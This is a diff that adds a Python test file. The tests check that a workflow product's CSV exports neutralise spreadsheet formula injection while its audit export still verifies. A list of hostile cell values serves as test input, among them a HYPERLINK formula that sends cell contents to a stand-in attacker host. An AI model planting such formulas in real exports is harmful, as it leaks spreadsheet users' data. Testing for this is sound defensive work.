@@ -1,0 +1,116 @@
+"""Every CSV the product writes opens in a spreadsheet as text: a cell that would start a formula
+gets a leading quote, every text cell is quoted, and the audit export still verifies offline
+(its reader takes the quote off again, so the hashes are over the values that were recorded)."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+
+import pytest
+from click.testing import CliRunner
+
+from engine import Actor, Engine, read_source
+from engine.csvsafe import FORMULA_STARTS, Writer, neutralise, restore, rows
+from engine.export import export_document, parse, to_csv, verify_export
+from webui.cli import main
+from workflows import Finsam
+from workflows.followup import Period, build_report
+from workflows.followup_export import to_csv as report_csv
+from workflows.users import new_token
+
+from .conftest import DATA
+from .test_timers import Clock, ClockDesk
+from .walk import NEED
+
+HOSTILE = ['=HYPERLINK("https://angripare.example/?"&A1;"Klicka")', "+1+1", "-2+3",
+           "@SUM(A1:A9)", "\tTAB", "\rCR", "\nLF", "'=redan citerad", "＝1+1",
+           "Vanlig; =1+1, \"citat\"", "rad 1\u2028rad 2\x85rad 3\r\nrad 4"]
+NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
+
+
+def plain_cells(text: str) -> list[str]:
+    """The cells as a spreadsheet's CSV reader sees them (no restore)."""
+    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+
+
+def opens_as_text(text: str) -> bool:
+    """No cell starts a formula (a negative number is a number)."""
+    return not any(cell[:1] in FORMULA_STARTS - {"'"} and not NUMBER.fullmatch(cell)
+                   for cell in plain_cells(text))
+
+
+@pytest.mark.parametrize("value", HOSTILE + ["", "vanlig text", "'", "''x"])
+def test_neutralise_is_reversed_exactly(value: str) -> None:
+    out = io.StringIO()
+    Writer(out).writerow([value, 42, -5, 1.5, None])
+    [row] = list(rows(out.getvalue()))
+    assert row == [value, "42", "-5", "1.5", ""]
+    assert opens_as_text(out.getvalue())
+    cell = neutralise(value)
+    assert isinstance(cell, str) and restore(cell) == value
+    assert out.getvalue().startswith('"')  # text is quoted: a separator cannot start a cell
+
+
+def test_the_audit_csv_opens_as_text_and_verifies(engine: Engine) -> None:
+    engine.deploy(read_source(DATA / "engine" / "approval.bpmn"), "tester")
+    groups = frozenset({"Requester", "Board", "a", "b", "c"})
+    for name in HOSTILE[:4]:
+        actor = Actor(name, "t", "@acting", groups)
+        started = engine.start_instance(actor, "approval", {"title": HOSTILE[-1]})
+        instance = started.instance
+        text = to_csv(export_document(engine.get_instance("t", instance.id),
+                                      engine.events("t", instance.id)))
+        assert opens_as_text(text)
+        assert f"'{name}" in plain_cells(text)
+        document = parse(text)
+        assert document["events"][0]["actor"] == name
+        assert verify_export(document) == []
+        assert verify_export(document, document["head"]["hash"]) == []
+        forged = text.replace(name.replace('"', '""'), "someone", 1)
+        assert verify_export(parse(forged)) != []
+
+
+@pytest.fixture
+def titled(finsam: Finsam, database_url: str) -> list[str]:
+    """Two needs whose titles are formulas, each with a Finsam route (a row of the report)."""
+    desk = ClockDesk(database_url, Clock())
+    titles = [HOSTILE[0], "@SUM(A1:A9); =1+1"]
+    for title in titles:
+        start = desk.start_need("kansli", {"titel": title})
+        desk.act("kansli", start.instance.id, "identifiera_behov", {
+            **NEED, "titel": title, "parter": ["af", "fk", "angelholm"],
+            "finansieringsform": "finansiell_samordning"})
+    return titles
+
+
+def _report_text_is_safe(text: str, titles: list[str]) -> None:
+    assert opens_as_text(text)
+    restored = [cell for row in rows(text) for cell in row]
+    for title in titles:
+        assert title in restored and "'" + title in plain_cells(text)
+
+
+def test_the_report_csv_opens_as_text(finsam: Finsam, titled: list[str]) -> None:
+    report = build_report(finsam.db, ("nnv-skane",), Period())
+    _report_text_is_safe(report_csv(report), titled)
+
+
+def test_the_report_csv_of_the_api_opens_as_text(client, finsam: Finsam,  # type: ignore[no-untyped-def]
+                                                 titled: list[str]) -> None:
+    token = new_token(finsam.db, "kansli")
+    response = client.get("/api/reports/uppfoljning?format=csv",
+                          headers={"Authorization": f"Bearer {token}"})
+    assert response.status_code == 200
+    _report_text_is_safe(response.get_data(as_text=True), titled)
+
+
+def test_the_report_csv_of_the_command_line_opens_as_text(
+        finsam: Finsam, titled: list[str], database_url: str,
+        monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("FINSAM_DATABASE_URL", database_url)
+    result = CliRunner().invoke(main, ["report", "uppfoljning", "--forbund", "nnv-skane",
+                                       "--format", "csv"], catch_exceptions=False)
+    assert result.exit_code == 0, result.output
+    _report_text_is_safe(result.output, titled)
